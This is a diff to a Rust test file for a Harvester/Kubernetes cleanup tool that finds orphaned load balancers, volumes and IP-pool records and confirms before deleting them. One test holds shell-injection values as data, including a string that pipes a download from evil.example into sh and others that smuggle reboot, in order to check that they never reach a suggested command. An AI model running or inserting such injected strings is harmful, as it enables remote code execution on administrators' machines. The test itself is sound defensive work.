@@ -72,7 +72,7 @@ fn facts() -> Facts {
     Facts {
         now: NOW.parse().unwrap(),
         namespace: "vms".to_owned(),
-        guest: answers(guest.into_iter().map(|(path, items)| (path.to_owned(), items)).collect()),
+        guest: Ok(answers(guest.into_iter().map(|(path, items)| (path.to_owned(), items)).collect())),
         harvester: answers(harvester),
     }
 }
@@ -85,7 +85,7 @@ impl Facts {
     }
 
     fn guest(mut self, path: &str, more: &[Value]) -> Self {
-        let Some(Ok(list)) = self.guest.answers.get_mut(path) else { panic!("{path}") };
+        let Some(Ok(list)) = self.guest.as_mut().unwrap().answers.get_mut(path) else { panic!("{path}") };
         list["items"].as_array_mut().unwrap().extend(more.iter().cloned());
         self
     }
@@ -102,13 +102,22 @@ impl Facts {
         self.harvester(&read::machines("vms"), &[machine(name, uid, cluster)])
     }
 
-    fn unread(mut self, path: &str) -> Self {
-        let failed = Failed { trouble: Trouble::Forbidden, why: "forbidden".to_owned() };
-        for cluster in [&mut self.guest, &mut self.harvester] {
+    fn unread(self, path: &str) -> Self {
+        self.failing(path, Trouble::Forbidden, "forbidden")
+    }
+
+    fn failing(mut self, path: &str, trouble: Trouble, why: &str) -> Self {
+        let failed = Failed { trouble, why: why.to_owned() };
+        for cluster in [self.guest.as_mut().unwrap(), &mut self.harvester] {
             if let Some(answer) = cluster.answers.get_mut(path) {
                 *answer = Err(failed.clone());
             }
         }
+        self
+    }
+
+    fn without_guest(mut self) -> Self {
+        self.guest = Err("no access to the local cluster".to_owned());
         self
     }
 }
@@ -176,8 +185,8 @@ fn of_a_service_that_was_made_again_the_former_object_must_be_typed() {
 #[case::no_machine(&[], Some(Deletion::Typed))]
 #[case::of_another_cluster(&[("m", Some("green"))], Some(Deletion::Typed))]
 #[case::its_machine(&[("m", Some("red"))], None)]
-#[case::a_machine_of_nobody(&[("m", None)], None)]
-fn an_object_of_another_cluster_must_be_typed_and_only_where_no_machine_may_be_its(
+#[case::its_machine_beside_one_of_nobody(&[("m", None), ("m2", Some("red"))], None)]
+fn an_object_of_another_cluster_must_be_typed_and_only_where_no_machine_has_its_name(
     #[case] machines: &[(&str, Option<&str>)],
     #[case] expected: Option<Deletion>,
 ) {
@@ -191,6 +200,89 @@ fn an_object_of_another_cluster_must_be_typed_and_only_where_no_machine_may_be_i
     );
     let kept = decide(&facts).kept;
     assert_eq!(kept.len(), usize::from(expected.is_none()), "{kept:?}");
+}
+
+/// The orphan that the question is asked about.
+fn doubted(facts: &Facts, name: &str) -> Orphan {
+    let report = decide(facts);
+    let found = report.orphans.iter().find(|orphan| orphan.name == name);
+    let orphan = found.unwrap_or_else(|| panic!("{report:#?}")).clone();
+    assert_eq!((orphan.delete, orphan.doubt.is_some()), (Deletion::Typed, true), "{orphan:#?}");
+    let asked = std::cell::RefCell::new(String::new());
+    choose(&report, true, true, &mut |question| {
+        asked.borrow_mut().push_str(question);
+        String::new()
+    });
+    let doubt = orphan.doubt.as_deref().unwrap();
+    assert!(asked.borrow().contains(doubt), "{doubt}: {}", asked.borrow());
+    assert!(render(&report).contains(doubt), "{doubt}");
+    orphan
+}
+
+#[test]
+fn beside_a_machine_without_a_label_what_is_another_clusters_must_be_typed_and_the_question_says_so() {
+    let facts = facts()
+        .balancer(balancer("far", "red", "web2", &of_cluster("c7", "s7")))
+        .claim(claim(VOLUME, Some("red")))
+        .machine("m", "vm-7", None);
+    for name in ["far", VOLUME] {
+        let orphan = doubted(&facts, name);
+        assert_eq!(
+            orphan.doubt.as_deref(),
+            Some("VirtualMachine vms/m may be a machine of its cluster"),
+            "{orphan:#?}"
+        );
+    }
+}
+
+#[rstest]
+#[case::of_its_name(Some("red"), false)]
+#[case::of_another_name(Some("green"), true)]
+#[case::of_nobody(None, true)]
+fn without_a_guest_cluster_what_no_machine_has_the_name_of_must_be_typed(
+    #[case] label: Option<&str>,
+    #[case] is_offered: bool,
+) {
+    let mut facts = facts()
+        .balancer(balancer("far", "red", "web2", &of_cluster("c7", "s7")))
+        .claim(claim(VOLUME, Some("red")))
+        .without_guest();
+    facts.harvester.answers.insert(read::machines("vms"), list(&json!([machine("m", "vm-7", label)])));
+    let report = decide(&facts);
+    let far = report.orphans.iter().any(|orphan| orphan.name == "far");
+    assert_eq!((far, report.not_read.len()), (is_offered, 1), "{report:#?}");
+    if is_offered {
+        doubted(&facts, "far");
+        let sentence = doubted(&facts, VOLUME).sentence;
+        assert!(sentence.contains("no PersistentVolume was read"), "{sentence}");
+    } else {
+        assert_eq!(found(&facts), one("web", Deletion::Typed), "{report:#?}");
+    }
+}
+
+/// Two clusters of one name in a namespace, of which one has hand-made machines; a cluster that was restored beside its
+/// original, whose machines have no label.
+#[rstest]
+#[case::of_the_go_program("blue", json!({}), None)]
+#[case::restored("blue", of_cluster("c1", "s0"), None)]
+#[case::restored_without_a_name("kubernetes", of_cluster("c1", "s0"), None)]
+#[case::restored_without_a_name_beside_another_label("kubernetes", of_cluster("c1", "s0"), Some("green"))]
+fn no_proof_counts_while_a_machine_may_be_of_a_cluster_that_looks_alike(
+    #[case] cluster: &str,
+    #[case] notes: Value,
+    #[case] label: Option<&str>,
+) {
+    let facts = facts().balancer(balancer("old", cluster, "gone", &notes));
+    assert_eq!(found(&facts), one("old", Deletion::Asked));
+    let facts = facts.machine("m", "vm-7", label);
+    doubted(&facts, "old");
+}
+
+#[test]
+fn nothing_is_proved_while_the_nodes_are_not_read() {
+    let facts =
+        facts().balancer(balancer("old", "blue", "gone", &of_cluster("c1", "s0"))).unread(read::NODES);
+    assert_eq!(found(&facts), []);
 }
 
 #[test]
@@ -223,6 +315,54 @@ fn what_cannot_be_read_counts_as_living(#[case] path: String) {
     assert!(
         report.orphans.iter().all(|orphan| !(left == 1 && orphan.kind == Kind::LoadBalancer)),
         "{report:#?}"
+    );
+}
+
+const OF_RANCHER: &str = "clusters.management.cattle.io \"c-m-1\" not found";
+
+/// harvester#53642: Rancher's proxy answers 404 for each path of a cluster that it does not know any more.
+#[rstest]
+fn a_404_says_nothing_of_what_is_there(
+    #[values(
+        read::SERVICES.to_owned(),
+        read::NODES.to_owned(),
+        read::machines("vms"),
+        read::balancers("vms"),
+        read::instances("vms"),
+        read::POOLS.to_owned(),
+        facts::VOLUMES.to_owned(),
+        facts::claims("vms"),
+        facts::pods("vms")
+    )]
+    path: String,
+    #[values(OF_RANCHER, "404 page not found")] why: &str,
+) {
+    let facts = facts()
+        .balancer(balancer("far", "red", "web2", &of_cluster("c7", "s7")))
+        .claim(claim(VOLUME, Some("blue")));
+    let not_found = decide(&facts.clone().failing(&path, Trouble::NotFound, why));
+    let forbidden = decide(&facts.failing(&path, Trouble::Forbidden, why));
+    assert_eq!(not_found, forbidden);
+    assert!(not_found.not_read.len() == 1 && not_found.not_read[0].contains(why), "{not_found:#?}");
+}
+
+#[rstest]
+#[case::of_the_kind("the server could not find the requested resource", 1)]
+#[case::of_the_cluster(OF_RANCHER, 0)]
+fn a_harvester_without_the_kind_has_no_snapshots(#[case] why: &str, #[case] count: usize) {
+    let facts = facts().claim(claim(VOLUME, Some("blue")));
+    let report = decide(&facts.failing(&facts::snapshots("vms"), Trouble::NotFound, why));
+    assert_eq!((report.orphans.len(), report.not_read.len()), (count, 1 - count), "{report:#?}");
+}
+
+#[test]
+fn that_nothing_was_found_is_said_of_what_was_read() {
+    let text = render(&decide(&facts()));
+    assert_eq!(text, "Nothing was found that is left behind.\n");
+    let text = render(&decide(&facts().failing(&read::balancers("vms"), Trouble::NotFound, OF_RANCHER)));
+    assert!(
+        text.starts_with("Nothing was found that is left behind, in the lists that could be read.\n"),
+        "{text}"
     );
 }
 
@@ -270,6 +410,35 @@ fn a_volume_that_may_be_on_its_way_is_kept(#[case] field: &str, #[case] value: V
     assert_eq!((report.orphans.len(), report.kept.len()), (0, 1), "{report:#?}");
 }
 
+/// The annotation stays when a machine is deleted with its disk.
+#[rstest]
+#[case::of_a_machine_that_is_gone(json!({"vm": "gone", "vmUid": "vm-0", "op": "attach"}), true)]
+#[case::of_its_name(json!({"vm": "n1", "vmUid": "vm-0", "op": "attach"}), false)]
+#[case::of_its_uid(json!({"vm": "former", "vmUid": "vm-1", "op": "detach"}), false)]
+#[case::of_an_instance(json!({"vm": "i1", "vmUid": "vm-0", "op": "attach"}), false)]
+#[case::on_its_way_from_one(json!({"vm": "gone", "vmUid": "vm-0", "op": "attach", "from": "n1"}), false)]
+#[case::leaving_one(json!({"vm": "gone", "vmUid": "vm-0", "op": "attach", "leaving": "n1"}), false)]
+fn a_volume_is_in_a_machine_only_while_that_machine_is_there(#[case] attached: Value, #[case] is_left: bool) {
+    let mut claim = claim(VOLUME, Some("blue"));
+    claim["metadata"]["annotations"] = json!({annotations::CSI_ATTACH: attached.to_string()});
+    let facts = facts().claim(claim).harvester(
+        &read::instances("vms"),
+        &[json!({"metadata": {"name": "i1", "uid": "vmi-1"}, "spec": {}})],
+    );
+    let report = decide(&facts);
+    let expected = if is_left { (1, 0) } else { (0, 1) };
+    assert_eq!((report.orphans.len(), report.kept.len()), expected, "{report:#?}");
+}
+
+/// The CSI driver labels the claims of volumes that their PersistentVolumes delete, and no others.
+#[rstest]
+#[case(Some("blue"), false)]
+#[case(None, true)]
+fn a_volume_without_a_label_is_said_to_be_retained_perhaps(#[case] of: Option<&str>, #[case] expected: bool) {
+    let sentence = decide(&facts().claim(claim(VOLUME, of))).orphans.remove(0).sentence;
+    assert_eq!(sentence.contains("retained"), expected, "{sentence}");
+}
+
 #[rstest]
 #[case::ours(VOLUME, Some("blue"), 1)]
 #[case::of_nobody_beside_us_alone(VOLUME, None, 1)]
@@ -298,6 +467,23 @@ fn a_record_without_its_load_balancer_is_released_by_hand() {
     let next = report.orphans[0].next.as_deref().unwrap();
     assert!(next.ends_with("manuallyReleaseIP=10.0.0.2: vms/gone'"), "{next}");
     assert_eq!(found(&facts.unread(&read::machines("vms"))), []);
+}
+
+/// A tenant who may write pools chooses the text that an administrator would paste.
+#[rstest]
+#[case::shell("10.0.0.2", "vms/x'; curl http://evil.example/a|sh; '")]
+#[case::substitution("10.0.0.2", "vms/$(reboot)")]
+#[case::of_the_address("10.0.0.2'; reboot; '", "vms/gone")]
+fn a_record_whose_text_no_object_can_have_becomes_part_of_no_command(
+    #[case] address: &str,
+    #[case] holder: &str,
+) {
+    let pool = json!({"metadata": {"name": "edge"}, "spec": {"ranges": []}, "status": {"allocated": {address: holder}}});
+    let report = decide(&facts().harvester(read::POOLS, &[pool]));
+    let next = report.orphans[0].next.as_deref().unwrap();
+    assert!(next.ends_with("kubectl edit ippools.loadbalancer.harvesterhci.io edge"), "{next}");
+    let is_quoted = ["curl", "reboot"].iter().any(|word| next.contains(word));
+    assert!(!is_quoted, "{next}");
 }
 
 #[test]
@@ -329,6 +515,58 @@ fn only_what_is_proved_is_deleted_by_one_word_and_the_rest_by_its_name() {
     assert_eq!(chosen(true, false, &|_| VOLUME), [""; 0]);
     assert_eq!(chosen(false, true, &|_| "yes"), [""; 0]);
     assert_eq!(chosen(true, true, &|_| ""), [""; 0], "no answer is no");
+}
+
+#[test]
+fn all_that_one_word_deletes_is_named_before_it_is_asked_for() {
+    let mut facts = facts();
+    for number in 0..60 {
+        facts =
+            facts.balancer(balancer(&format!("old-{number:02}"), "blue", "gone", &of_cluster("c1", "s0")));
+    }
+    let report = decide(&facts);
+    let mut asked = Vec::new();
+    choose(&report, true, false, &mut |question| {
+        asked.push(question.to_owned());
+        String::new()
+    });
+    let missing = report.orphans.iter().find(|orphan| !asked[0].contains(&format!("  {}\n", orphan.name)));
+    assert_eq!((report.orphans.len(), asked.len(), missing), (60, 1, None));
+    assert!(asked[0].ends_with("Delete these 60? Type yes: "), "{}", asked[0]);
+}
+
+#[rstest]
+#[case::unchanged(json!({}), 1)]
+#[case::written(json!({"resourceVersion": "8"}), 0)]
+#[case::another_object(json!({"uid": "uid-other"}), 0)]
+fn only_what_is_as_it_was_shown_is_deleted(#[case] change: Value, #[case] count: usize) {
+    let mut object = balancer("old", "blue", "gone", &json!({}));
+    let shown = decide(&facts().balancer(object.clone()));
+    object["metadata"].as_object_mut().unwrap().extend(change.as_object().unwrap().clone());
+    let again = decide(&facts().balancer(object));
+    let chosen: Vec<_> = shown.orphans.iter().collect();
+    let (same, rest) = delete::unchanged(&chosen, &again);
+    assert_eq!((same.len(), rest.len()), (count, 1 - count));
+    assert!(
+        rest.iter().all(|outcome| !outcome.is_deleted && outcome.sentence.contains("has changed")),
+        "{rest:?}"
+    );
+}
+
+#[test]
+fn an_undone_volume_waits_for_no_snapshot_and_is_in_no_machine() {
+    let mut claim = claim(VOLUME, Some("blue"));
+    claim["spec"]["dataSource"] = json!({"kind": "VolumeSnapshot", "name": "gone"});
+    claim["spec"]["dataSourceRef"] = json!({"kind": "VolumeSnapshot", "name": "gone"});
+    claim["metadata"]["annotations"] =
+        json!({annotations::CSI_ATTACH: r#"{"vm":"gone","vmUid":"u","op":"attach"}"#, "team": "shop"});
+    let report = decide(&facts().claim(claim));
+    let text = delete::undo(&report.orphans.iter().collect::<Vec<_>>());
+    let (head, object) = text.split_once("---\n").unwrap();
+    let object: Value = serde_json::from_str(object).unwrap();
+    assert_eq!(object["spec"], json!({"accessModes": ["ReadWriteMany"]}));
+    assert_eq!(object["metadata"]["annotations"], json!({"team": "shop"}));
+    assert!(head.contains("from a snapshot"), "{head}");
 }
 
 #[test]
